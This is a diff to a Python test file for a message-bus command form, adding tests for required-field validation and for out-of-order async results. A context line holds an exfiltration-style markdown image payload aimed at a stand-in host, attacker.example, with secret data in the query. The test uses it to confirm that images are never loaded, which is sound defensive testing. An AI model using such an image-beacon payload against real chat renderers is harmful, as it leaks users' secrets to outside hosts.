@@ -809,3 +809,49 @@ def test_markdown_in_replies_shows_images_as_links_never_loads_them() -> None:
     rendered = markdown("![chart](https://attacker.example/p.png?d=secret)")
     assert "<img" not in rendered
     assert '<a href="https://attacker.example/p.png?d=secret">chart</a>' in rendered
+
+
+class TransferCommand(Command):
+    amount: float
+    account: int
+
+
+async def test_form_a_required_number_left_empty_is_refused_not_sent_as_zero(
+    bus: MessageBus,
+) -> None:
+    seen: list[TransferCommand] = []
+    bus.register_command_handler(TransferCommand, seen.append)
+    form = CommandForm(TransferCommand, bus)
+    assert form.fields["account"].placeholder == "required"
+    assert form.execute() is None
+    assert "account" in form.errors.value and "Field required" in form.errors.value
+    form.fields["amount"].value = "12.5"
+    form.fields["account"].value = "42"
+    task = form.execute()
+    assert task is not None
+    await asyncio.wait_for(task, 10)
+    assert [(c.amount, c.account) for c in seen] == [(12.5, 42)]
+
+
+async def test_form_shows_the_latest_execute_when_an_earlier_one_ends_last(
+    bus: MessageBus,
+) -> None:
+    first_may_end = asyncio.Event()
+
+    async def slow_first(command: PaintCommand) -> str:
+        if command.wall == "old":
+            await first_may_end.wait()
+        return f"painted {command.wall}"
+
+    bus.register_command_handler(PaintCommand, slow_first)
+    form = CommandForm(PaintCommand, bus)
+    form.fields["wall"].value = "old"
+    first = form.execute()
+    form.fields["wall"].value = "new"
+    second = form.execute()
+    assert first is not None and second is not None
+    await asyncio.wait_for(second, 10)
+    first_may_end.set()
+    await asyncio.wait_for(first, 10)
+    assert form.result is not None and form.result.result == "painted new"
+    assert "painted new" in form.output.value and "painted old" not in form.output.value
